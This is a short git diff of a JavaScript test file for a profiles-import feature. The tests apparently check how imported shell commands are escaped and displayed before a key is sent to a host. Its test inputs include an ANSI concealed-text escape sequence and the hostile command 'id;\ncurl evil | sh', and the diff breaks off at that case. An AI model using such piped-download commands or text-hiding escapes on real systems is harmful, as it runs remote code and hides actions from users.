@@ -119,7 +119,7 @@ describe('profiles import', () => {
     [{ command: 'echo a\n\nb' }, 'live, whose key goes to https://a.example: echo a b'],
     [
       { command: "echo 'a\n\u001b[8mb'" },
-      String.raw`live, whose key goes to https://a.example: echo 'a\u000a'"$(printf '\033')"'[8mb'`,
+      String.raw`live, whose key goes to https://a.example: echo "$(printf 'a\012\033\1338mb')"`,
     ],
     [
       { command: 'id;\ncurl evil | sh', shell: true },
